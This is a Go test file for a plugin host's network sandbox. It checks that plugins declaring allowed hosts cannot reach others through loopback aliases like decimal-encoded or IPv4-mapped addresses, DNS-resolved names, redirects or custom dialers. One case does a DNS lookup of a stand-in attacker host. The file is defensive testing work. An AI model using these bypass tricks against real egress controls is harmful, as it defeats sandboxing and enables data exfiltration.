package plugins

import (
	"context"
	"encoding/json"
	"errors"
	"fmt"
	"net"
	"net/http"
	"net/http/httptest"
	"strings"
	"sync"
	"sync/atomic"
	"testing"

	"github.com/wrasse-app/wrasse/plugins/sdk"
)

// netProbeSkill declares network with the hosts %s; its tools try one way
// each to reach a URL or an address.
const netProbeSkill = `---
name: netprobe
description: Reaches the network in every way the library offers.
permissions:
  network: [%s]
tools:
  - name: fetch
    description: Fetch a URL.
  - name: dial
    description: Open a connection and send an HTTP request over it.
---
`

const netProbeSource = `package netprobe

import (
	"bufio"
	"context"
	"crypto/tls"
	"io"
	"net"
	"net/http"
	"time"

	"github.com/wrasse-app/wrasse/plugins/sdk"
)

func Init(env *sdk.Env) (*sdk.Plugin, error) {
	p := sdk.NewPlugin()
	p.Handle("fetch", fetch)
	p.Handle("dial", dial)
	return p, nil
}

func fetch(ctx context.Context, req *sdk.Request) (*sdk.Result, error) {
	u := req.String("url", "")
	var resp *http.Response
	var err error
	switch req.String("how", "get") {
	case "get":
		resp, err = http.Get(u)
	case "own-client":
		resp, err = (&http.Client{Timeout: 5 * time.Second}).Get(u)
	case "default-client":
		r, _ := http.NewRequestWithContext(ctx, "GET", u, nil)
		resp, err = http.DefaultClient.Do(r)
	case "default-transport":
		r, _ := http.NewRequestWithContext(ctx, "GET", u, nil)
		resp, err = http.DefaultTransport.RoundTrip(r)
	}
	if err != nil {
		return sdk.Text("refused: " + err.Error()), nil
	}
	defer resp.Body.Close()
	b, _ := io.ReadAll(resp.Body)
	return sdk.Text("got: " + string(b)), nil
}

func dial(ctx context.Context, req *sdk.Request) (*sdk.Result, error) {
	addr := req.String("addr", "")
	var c net.Conn
	var err error
	switch req.String("how", "tcp") {
	case "tcp":
		c, err = net.Dial("tcp", addr)
	case "timeout":
		c, err = net.DialTimeout("tcp4", addr, 5*time.Second)
	case "tls":
		c, err = tls.Dial("tcp", addr, &tls.Config{InsecureSkipVerify: true})
	}
	if err != nil {
		return sdk.Text("refused: " + err.Error()), nil
	}
	defer c.Close()
	if _, err := io.WriteString(c, "GET / HTTP/1.0\r\n\r\n"); err != nil {
		return sdk.Text("refused: " + err.Error()), nil
	}
	line, _ := bufio.NewReader(c).ReadString('\n')
	return sdk.Text("got: " + line), nil
}
`

// countingListener counts the connections a real listener accepts.
type countingListener struct {
	net.Listener
	n atomic.Int32
}

func (l *countingListener) Accept() (net.Conn, error) {
	c, err := l.Listener.Accept()
	if err == nil {
		l.n.Add(1)
	}
	return c, err
}

func listenCounting(t *testing.T, h http.Handler) (*httptest.Server, *countingListener) {
	t.Helper()
	ln, err := net.Listen("tcp4", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	cl := &countingListener{Listener: ln}
	srv := httptest.NewUnstartedServer(h)
	srv.Listener = cl
	srv.Start()
	t.Cleanup(srv.Close)
	return srv, cl
}

// hostLog is a check a test installs on a call's context (as the agent
// does for the conversation): it records what it was asked and refuses
// what refuse says.
type hostLog struct {
	mu     sync.Mutex
	asked  []string
	refuse func(target string) bool
}

func (l *hostLog) check(_ context.Context, target string) error {
	l.mu.Lock()
	defer l.mu.Unlock()
	l.asked = append(l.asked, target)
	if l.refuse != nil && l.refuse(target) {
		return fmt.Errorf("%w: the person said no to %s", sdk.ErrHostNotAllowed, target)
	}
	return nil
}

func (l *hostLog) targets() []string {
	l.mu.Lock()
	defer l.mu.Unlock()
	return append([]string(nil), l.asked...)
}

// A plugin in its own process declaring network: [api.example.com]
// reaches nothing else: not a real listener on 127.0.0.1 by its address,
// by a declared name that resolves to it, or by a redirect from a host it
// may reach, through any of the library's ways to connect. What it may
// reach goes through the call's check, asked by the plugin process over
// its pipe: allowed, refused, and refused when no check is installed.
func TestEgressDeclaredHosts(t *testing.T) {
	target, hits := listenCounting(t, http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		fmt.Fprint(w, "the secret body")
	}))
	targetPort := target.Listener.Addr().(*net.TCPAddr).Port
	// Set once the server listens, read by its handler: atomic, since the
	// race detector sees no order through the network.
	var allowedPort atomic.Int64
	allowed, _ := listenCounting(t, http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		switch r.URL.Path {
		case "/ok":
			fmt.Fprint(w, "hello from the allowed host")
		case "/to-target":
			http.Redirect(w, r, fmt.Sprintf("http://127.0.0.1:%d/", targetPort), http.StatusFound)
		case "/to-name":
			http.Redirect(w, r, fmt.Sprintf("http://localhost:%d/ok", allowedPort.Load()), http.StatusFound)
		}
	}))
	allowedPort.Store(int64(allowed.Listener.Addr().(*net.TCPAddr).Port))
	tURL := fmt.Sprintf("http://127.0.0.1:%d/", targetPort)
	tAddr := fmt.Sprintf("127.0.0.1:%d", targetPort)
	aURL := fmt.Sprintf("http://127.0.0.1:%d", allowedPort.Load())

	type step struct {
		tool, args string
		has        string
	}
	cases := []struct {
		name  string
		hosts string
		steps []step
	}{
		{"the address of a host it does not declare", "api.example.com", []step{
			{"fetch", `{"url":"` + tURL + `","how":"get"}`, "not among the hosts"},
			{"fetch", `{"url":"` + tURL + `","how":"own-client"}`, "not among the hosts"},
			{"fetch", `{"url":"` + tURL + `","how":"default-client"}`, "not among the hosts"},
			{"fetch", `{"url":"` + tURL + `","how":"default-transport"}`, "not among the hosts"},
			{"fetch", fmt.Sprintf(`{"url":"http://2130706433:%d/","how":"get"}`, targetPort), "not among the hosts"},
			{"dial", `{"addr":"` + tAddr + `","how":"tcp"}`, "not among the hosts"},
			{"dial", `{"addr":"` + tAddr + `","how":"timeout"}`, "not among the hosts"},
			{"dial", `{"addr":"` + tAddr + `","how":"tls"}`, "not among the hosts"},
			{"dial", fmt.Sprintf(`{"addr":"[::ffff:127.0.0.1]:%d","how":"tcp"}`, targetPort), "not among the hosts"},
			{"dial", fmt.Sprintf(`{"addr":"localhost:%d","how":"tcp"}`, targetPort), "not among the hosts"},
		}},
		{"a declared name that resolves to a loopback address", "api.example.com, localhost", []step{
			{"fetch", fmt.Sprintf(`{"url":"http://localhost:%d/","how":"get"}`, targetPort), "a loopback address"},
			{"fetch", fmt.Sprintf(`{"url":"http://localhost:%d/","how":"own-client"}`, targetPort), "a loopback address"},
			{"dial", fmt.Sprintf(`{"addr":"localhost:%d","how":"tcp"}`, targetPort), "a loopback address"},
			{"dial", fmt.Sprintf(`{"addr":"localhost:%d","how":"tls"}`, targetPort), "a loopback address"},
		}},
		{"a redirect from a declared host", fmt.Sprintf(`"127.0.0.1:%d"`, allowedPort.Load()), []step{
			{"fetch", `{"url":"` + aURL + `/ok","how":"get"}`, "got: hello from the allowed host"},
			{"fetch", `{"url":"` + aURL + `/to-target","how":"get"}`, "not among the hosts"},
			{"fetch", `{"url":"` + aURL + `/to-target","how":"own-client"}`, "not among the hosts"},
			{"fetch", `{"url":"` + aURL + `/to-name","how":"default-client"}`, "not among the hosts"},
		}},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			h := childTestHost(&recorder{}, childArg)
			c := inline(t, fmt.Sprintf(netProbeSkill, tc.hosts), map[string]string{"netprobe.go": netProbeSource})
			rt, err := h.Load(t.Context(), request(c, false, "network"))
			if err != nil {
				t.Fatal(err)
			}
			defer rt.Close()
			if _, ok := rt.(*childRuntime); !ok {
				t.Fatalf("runtime is %T; want a plugin process", rt)
			}
			log := &hostLog{}
			ctx := sdk.WithHostCheck(t.Context(), log.check)
			for _, s := range tc.steps {
				res, err := callWithin(t, ctx, rt, s.tool, json.RawMessage(s.args))
				if err != nil || !strings.Contains(res.Content, s.has) {
					t.Errorf("%s %s = %+v, %v; want %q", s.tool, s.args, res, err, s.has)
				}
			}
		})
	}
	if n := hits.n.Load(); n != 0 {
		t.Errorf("the listener on 127.0.0.1 accepted %d connections; want none", n)
	}

	// The call's check decides each host a call reaches: the plugin
	// process asks the host over its pipe, which asks sdk.CheckHost on
	// the call's context.
	t.Run("the call's check", func(t *testing.T) {
		h := childTestHost(&recorder{}, childArg)
		c := inline(t, fmt.Sprintf(netProbeSkill, fmt.Sprintf(`"127.0.0.1:%d"`, allowedPort.Load())), map[string]string{"netprobe.go": netProbeSource})
		rt, err := h.Load(t.Context(), request(c, false, "network"))
		if err != nil {
			t.Fatal(err)
		}
		defer rt.Close()
		fetchOK := json.RawMessage(`{"url":"` + aURL + `/ok","how":"get"}`)
		dialOK := json.RawMessage(fmt.Sprintf(`{"addr":"127.0.0.1:%d","how":"tcp"}`, allowedPort.Load()))

		allow := &hostLog{}
		res, err := callWithin(t, sdk.WithHostCheck(t.Context(), allow.check), rt, "fetch", fetchOK)
		if err != nil || !strings.Contains(res.Content, "got: hello") {
			t.Fatalf("fetch with an allowing check = %+v, %v", res, err)
		}
		if got := allow.targets(); len(got) != 1 || got[0] != aURL+"/ok" {
			t.Errorf("the check was asked %q; want once, about %s/ok", got, aURL)
		}
		res, err = callWithin(t, sdk.WithHostCheck(t.Context(), allow.check), rt, "dial", dialOK)
		if err != nil || !strings.Contains(res.Content, "got: HTTP/1.0 200 OK") {
			t.Fatalf("dial with an allowing check = %+v, %v", res, err)
		}

		refuse := &hostLog{refuse: func(string) bool { return true }}
		for _, c := range []struct {
			tool string
			args json.RawMessage
		}{{"fetch", fetchOK}, {"dial", dialOK}} {
			res, err = callWithin(t, sdk.WithHostCheck(t.Context(), refuse.check), rt, c.tool, c.args)
			if err != nil || !strings.Contains(res.Content, "refused: ") || !strings.Contains(res.Content, "the person said no") {
				t.Errorf("%s with a refusing check: %+v, %v; want the check's refusal", c.tool, res, err)
			}
		}
		if len(refuse.targets()) == 0 {
			t.Error("the refusing check was never asked")
		}

		// No check installed on the call: nobody can answer for it.
		res, err = callWithin(t, t.Context(), rt, "fetch", fetchOK)
		if err != nil || !strings.Contains(res.Content, "refused: ") || !strings.Contains(res.Content, sdk.ErrHostNotAllowed.Error()) {
			t.Errorf("without a check = %+v, %v; want it refused", res, err)
		}
	})
}

// In process (no plugin process configured) the library functions take
// the same place and the call's check is asked directly.
func TestEgressInProcess(t *testing.T) {
	allowed, _ := listenCounting(t, http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) { fmt.Fprint(w, "hello") }))
	port := allowed.Listener.Addr().(*net.TCPAddr).Port
	c := inline(t, fmt.Sprintf(netProbeSkill, fmt.Sprintf(`"127.0.0.1:%d"`, port)), map[string]string{"netprobe.go": netProbeSource})
	rt, err := NewHost(Options{Logger: discard()}).Load(t.Context(), request(c, false, "network"))
	if err != nil {
		t.Fatal(err)
	}
	defer rt.Close()
	if _, ok := rt.(*pluginRuntime); !ok {
		t.Fatalf("runtime is %T; want one in process", rt)
	}
	log := &hostLog{}
	u := fmt.Sprintf("http://127.0.0.1:%d/", port)
	res, err := rt.Call(sdk.WithHostCheck(t.Context(), log.check), "fetch", json.RawMessage(`{"url":"`+u+`"}`))
	if err != nil || res.Content != "got: hello" || len(log.targets()) != 1 {
		t.Fatalf("fetch = %+v, %v, asked %q", res, err, log.targets())
	}
	res, err = rt.Call(t.Context(), "fetch", json.RawMessage(`{"url":"`+u+`"}`))
	if err != nil || !strings.Contains(res.Content, "refused: ") {
		t.Fatalf("fetch without a check = %+v, %v; want it refused", res, err)
	}
}

// Validation and install check a plugin against the hosts it declares,
// as its first call does: the app's host list for a capability it does
// not know yet (being validated or installed) is any host, and `wrasse
// caps validate` said "is valid" of a plugin whose first call then failed
// with "http.Transport dials without Wrasse's host check".
func TestEgressLimitedLibraryAtValidation(t *testing.T) {
	cases := []struct {
		name, imports, body, has string
		hosts                    string // the network permission
		wantErr                  bool
	}{
		{"a transport of its own, hosts named", `"net/http"`, "t := &http.Transport{}\n\t_, err := t.RoundTrip(nil)", "http.Transport dials without Wrasse's host check", "[api.example.com]", true},
		{"a dialer of its own, hosts named", `"net"`, "var d net.Dialer\n\tc, err := d.DialContext(ctx, \"tcp\", \"x:1\")\n\t_ = c", "net.Dialer dials without Wrasse's host check", "[api.example.com]", true},
		{"a transport of its own, any host", `"net/http"`, "t := &http.Transport{}\n\t_, err := t.RoundTrip(nil)", "", `["*"]`, false},
	}
	// As the app's host list answers for a capability not installed yet.
	h := NewHost(Options{Logger: discard(), Hosts: func(string, []string) []string { return []string{"*"} }})
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			src := wrap(tc.imports, "\tif !req.Bool(\"go\", false) {\n\t\treturn nil, nil\n\t}\n\t"+tc.body+"\n\treturn nil, err")
			skill := strings.Replace(oneTool, "tools:", "permissions:\n  network: "+tc.hosts+"\ntools:", 1)
			err := h.CheckSource(t.Context(), request(inline(t, skill, map[string]string{"main.go": src}), false, "network"))
			if !tc.wantErr {
				if err != nil {
					t.Fatalf("CheckSource: %v; want it to pass", err)
				}
				return
			}
			if !errors.Is(err, ErrPermission) || !strings.Contains(err.Error(), tc.has) || !strings.Contains(err.Error(), `network: ["*"]`) {
				t.Fatalf("CheckSource: %v; want ErrPermission saying %q and naming network: [\"*\"]", err, tc.has)
			}
		})
	}
}

// A plugin declaring hosts may not use what would connect past the check;
// the checker says why and that network: ["*"] is what it needs. With
// "*" the same code loads.
func TestEgressLimitedLibrary(t *testing.T) {
	cases := []struct{ name, imports, body, has string }{
		{"a dialer of its own", `"net"`, "var d net.Dialer\n\tc, err := d.DialContext(ctx, \"tcp\", \"x:1\")\n\t_ = c", "net.Dialer dials without Wrasse's host check"},
		{"a transport of its own", `"net/http"`, "t := &http.Transport{}\n\t_, err := t.RoundTrip(nil)", "http.Transport dials without Wrasse's host check"},
		{"the default transport's type", `"net/http"`, "t := http.DefaultTransport.(*http.Transport).Clone()\n\t_, err := t.RoundTrip(nil)", "http.Transport"},
		{"a packet socket", `"net"`, "c, err := net.ListenPacket(\"udp\", \":0\")\n\t_ = c", "net.ListenPacket opens a packet socket that sends to any address"},
		{"a UDP socket", `"net"`, "c, err := net.ListenUDP(\"udp\", nil)\n\t_ = c", "net.ListenUDP opens a packet socket"},
		{"a DNS lookup", `"net"`, "_, err := net.LookupHost(\"secret.attacker.example\")", "net.LookupHost looks names up itself"},
		{"a resolver", `"net"`, "_, err := net.DefaultResolver.LookupHost(ctx, \"x\")", "net.DefaultResolver looks names up itself"},
		{"an address it resolved", `"net"`, "c, err := net.DialTCP(\"tcp\", nil, &net.TCPAddr{Port: 1})\n\t_ = c", "net.DialTCP dials an address"},
		{"a TLS dialer", `"crypto/tls"`, "d := &tls.Dialer{}\n\tc, err := d.DialContext(ctx, \"tcp\", \"x:1\")\n\t_ = c", "tls.Dialer dials without"},
		{"SendMail", `"net/smtp"`, "err := smtp.SendMail(\"x:25\", nil, \"a@b\", nil, nil)", "smtp.SendMail dials without"},
		{"a TCP listener", `"net"`, "l, err := net.ListenTCP(\"tcp\", nil)\n\t_ = l", "net.ListenTCP listens for connections from any host"},
		{"an HTTP server", `"net/http"`, "err := http.ListenAndServe(\":8080\", nil)", "http.ListenAndServe listens"},
		{"an HTTP server of its own", `"net/http"`, "srv := &http.Server{Addr: \":8080\"}\n\terr := srv.ListenAndServe()", "http.Server listens"},
	}
	h := NewHost(Options{Logger: discard()})
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			src := wrap(tc.imports, "\tif !req.Bool(\"go\", false) {\n\t\treturn nil, nil\n\t}\n\t"+tc.body+"\n\treturn nil, err")
			skill := strings.Replace(oneTool, "tools:", "permissions:\n  network: [api.example.com]\ntools:", 1)
			err := h.Check(t.Context(), request(inline(t, skill, map[string]string{"main.go": src}), false, "network"))
			if !errors.Is(err, ErrPermission) || !strings.Contains(err.Error(), tc.has) || !strings.Contains(err.Error(), `network: ["*"]`) {
				t.Fatalf("Check: %v; want ErrPermission saying %q and naming network: [\"*\"]", err, tc.has)
			}
			anyHost := strings.Replace(oneTool, "tools:", "permissions:\n  network: [\"*\"]\ntools:", 1)
			if err := h.Check(t.Context(), request(inline(t, anyHost, map[string]string{"main.go": src}), false, "network")); err != nil {
				t.Fatalf("with any host: %v; want it to load", err)
			}
		})
	}
}
